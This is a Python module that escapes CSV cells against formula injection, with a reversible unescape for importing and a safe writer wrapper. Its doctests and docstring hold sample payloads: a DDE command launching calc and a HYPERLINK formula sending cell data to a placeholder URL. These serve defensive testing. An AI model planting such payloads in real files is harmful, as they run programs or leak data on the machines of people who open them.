"""Formula injection: the one escaping every CSV writer applies, and its inverse for the importer.

A CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or their full-width forms, after any
leading space), or with a tab or a carriage return, may be run as a formula when the file is
opened in Excel, WPS or LibreOffice: ``=HYPERLINK(…)`` sends the sheet's data elsewhere, a DDE
payload starts a program (OWASP, "CSV Injection"). Imported cells that look like formulas are
refused, but text written through the APIs (a ledger note, a problem number, a reason) is free
text, so every CSV writer passes each cell through :func:`escape`: such a cell gets a leading
apostrophe, which spreadsheets show as text and never run. Plain signed numbers (``-5``,
``+8613900000000``) are left alone: a spreadsheet reads a number and runs nothing. XLSX files
need none of this: their writers store every string as a string, never as a formula.

The escape is reversible, so the contract's exports and backups import back to the same values:
the importer reads an apostrophe before what :func:`escape` would have escaped as the text that
follows it (:func:`unescape`), as a spreadsheet reads an apostrophe typed before a formula. A text
that itself begins with apostrophes before such a character gets one more, so
``unescape(escape(v)) == v`` for every text ``v``.

Why not the ``defusedcsv`` package: it prefixes the same apostrophe but also rewrites ``|`` as
``\\|`` inside the cell, which no reader can undo unambiguously, and it ignores leading space,
tabs and full-width signs.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

_TRIGGERS = frozenset("=+-@＝＋－＠")
_CONTROL = frozenset("\t\r")
_INVISIBLE = "\u200b\ufeff"  # zero-width space and a stray BOM, invisible before a formula too
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
#: first characters worth a closer look: the triggers, an apostrophe, and anything invisible
_SUSPECT = _TRIGGERS | _CONTROL | frozenset(_INVISIBLE + "'") | frozenset(
    c for c in map(chr, range(0x3001)) if c.isspace())


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet opening a CSV cell holding ``text`` might run it as a formula.

    >>> [runs_as_formula(t) for t in ("=1+1", " @SUM(A1)", "-2+3+cmd|' /C calc'!A0", "\\tx", "＝A1")]
    [True, True, True, True, True]
    >>> [runs_as_formula(t) for t in ("-5", "+8613900000000", "张三", "a=b", "", "'=1")]
    [False, False, False, False, False, False]
    """
    if text[:1] in _CONTROL:
        return True
    head = text.strip().strip(_INVISIBLE).strip()
    return head[:1] in _TRIGGERS and not _PLAIN_NUMBER.fullmatch(head)


def escape(value: Any) -> Any:
    """A cell as a CSV writer must write it: text a spreadsheet might run (after any apostrophes
    of its own) gets one more leading apostrophe; everything else is returned as it is.

    >>> escape("=HYPERLINK(\\"http://x/?\\"&A1)"), escape("'=1"), escape("走访"), escape(-5)
    ('\\'=HYPERLINK("http://x/?"&A1)', "''=1", '走访', -5)
    """
    if isinstance(value, str) and value[:1] in _SUSPECT and runs_as_formula(value.lstrip("'")):
        return "'" + value
    return value


def unescape(text: str) -> str | None:
    """The text a cell written by :func:`escape` stands for, or None when ``text`` is not such a
    cell (then it stands for itself).

    >>> unescape("'=1+1"), unescape("''=1"), unescape("'abc"), unescape("=1")
    ('=1+1', "'=1", None, None)
    """
    if text[:1] == "'" and runs_as_formula(text[1:].lstrip("'")):
        return text[1:]
    return None


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`escape`."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows([escape(v) for v in row] for row in rows)
